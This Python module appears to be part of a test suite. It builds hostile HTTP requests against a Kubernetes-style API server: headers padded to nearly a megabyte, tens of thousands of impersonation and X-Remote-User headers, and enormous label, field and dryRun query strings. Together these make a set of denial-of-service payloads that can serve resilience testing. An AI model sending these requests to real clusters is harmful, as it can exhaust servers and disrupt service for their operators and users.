"""Request heads that cost much to interpret: lists of very many entries in headers and query parameters.

HEADS["Accept"](token)      one request whose head is nearly a megabyte long, by the user of this token
"""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

from hostile_requests import CONFIG_MAPS, HostileRequest, get

_ROOM = 900_000
_UNKNOWN = ("Authorization", "Bearer nobody-knows-this-token")
_PODS = "/api/v1/pods"


def _by(token: str, target: str, *headers: tuple[str, str]) -> HostileRequest:
    return get(target, ("Authorization", f"Bearer {token}"), *headers)


def _accept(clause: str) -> Callable[[str], HostileRequest]:
    return lambda token: get(CONFIG_MAPS, _UNKNOWN, ("Accept", clause * (_ROOM // len(clause))))


def _field(name: str, part: str) -> Callable[[str], HostileRequest]:
    return lambda token: get("/api", _UNKNOWN, (name, part * (_ROOM // len(part))))


def _web_socket_protocols(token: str) -> HostileRequest:
    upgrade = (("Connection", "Upgrade"), ("Upgrade", "websocket"))
    return get("/api", *upgrade, ("Sec-WebSocket-Protocol", "a," * (_ROOM // 2)))


def _many(*names: str, count: int = 25_000) -> tuple[tuple[str, str], ...]:
    return tuple((name.format(at), f"{at}") for at in range(count // len(names)) for name in names)


def _remote_users(token: str) -> HostileRequest:
    return get("/api", *_many("X-Remote-User", "X-Remote-Extra-{}"))


def _impersonated_extra(token: str) -> HostileRequest:
    return _by(token, "/api", ("Impersonate-User", "somebody"), *_many("Impersonate-Extra-{}", count=20_000))


def _impersonated_groups(token: str) -> HostileRequest:
    return _by(token, "/api", ("Impersonate-User", "somebody"), *_many("Impersonate-Group", count=20_000))


def _fields(token: str) -> HostileRequest:
    return get("/livez", *_many("X-{}", count=32_000))


def _query(name: str, part: str, end: str = "", *, path: str = _PODS) -> Callable[[str], HostileRequest]:
    part = quote(part)
    return lambda token: _by(token, f"{path}?{name}={part * (_ROOM // len(part))}{quote(end)}")


def _label_selector_of_many_keys(token: str) -> HostileRequest:
    return _by(token, f"{_PODS}?labelSelector=" + ",".join(f"label-{at}!=v" for at in range(_ROOM // 14)))


HEADS: dict[str, Callable[[str], HostileRequest]] = {
    "Accept": _accept("a/b,"),
    "Accept of wildcards": _accept("*/*;stream=x,"),
    "Accept of parameters": _accept("*/*;a=b;"),
    "Accept of qualities": _accept("*/*;q=1,"),
    "X-Forwarded-For": _field("X-Forwarded-For", "1,"),
    "X-Real-Ip": _field("X-Real-Ip", "1."),
    "Accept-Encoding": _field("Accept-Encoding", "a,"),
    "If-None-Match": _field("If-None-Match", "a,"),
    "Connection": _field("Connection", "a,"),
    "Sec-WebSocket-Protocol": _web_socket_protocols,
    "users of front proxies": _remote_users,
    "impersonated extra": _impersonated_extra,
    "impersonated groups": _impersonated_groups,
    "fields": _fields,
    "label selector": _query("labelSelector", "a!=b,", "a"),
    "label selector of many keys": _label_selector_of_many_keys,
    "label selector of values": lambda token: _by(token, f"{_PODS}?labelSelector=a+in+({'b,' * (_ROOM // 2)})"),
    "label selector of parentheses": _query("labelSelector", "("),
    "field selector": _query("fieldSelector", "metadata.name!=a,", "metadata.name=b"),
    "field selector of short terms": _query("fieldSelector", "a=,", "a=b"),
    "dry runs": lambda token: _by(token, f"{_PODS}?{'dryRun=a&' * 9_999}"),
    "excluded health checks": lambda token: get("/livez?verbose&" + "&".join(f"exclude={at}" for at in range(9_990))),
}
